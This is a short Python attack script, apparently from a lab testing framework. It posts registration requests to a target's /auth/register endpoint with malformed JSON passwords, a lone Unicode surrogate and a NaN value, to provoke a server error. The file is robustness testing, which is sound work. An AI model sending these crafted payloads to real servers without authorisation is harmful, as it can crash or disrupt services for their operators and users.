"""Break the server with JSON that is no text or number.

Exploits lone surrogates and NaN: Python reads them, but cannot write them again.
Source: RFC 8259, sections 6 Numbers and 8.2 Unicode Characters,
https://www.rfc-editor.org/rfc/rfc8259#section-8.2
"""

import json

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, breakdown
from attacks.lab.target import Person, Target

STRANGE = {"lone surrogate": "\ud800-is-half-a-letter", "NaN": float("nan")}


@attack()
def run(target: Target) -> Outcome:
    """Put each in the place of a password, and look for an error of the server."""
    target.enrol()
    answers = {}
    for trick, password in STRANGE.items():
        body = json.dumps({**Person().registration(), "password": password})
        answers[trick] = target.http.post(
            "/auth/register", content=body, headers={"Content-Type": "application/json"}
        )
    return breakdown(answers)
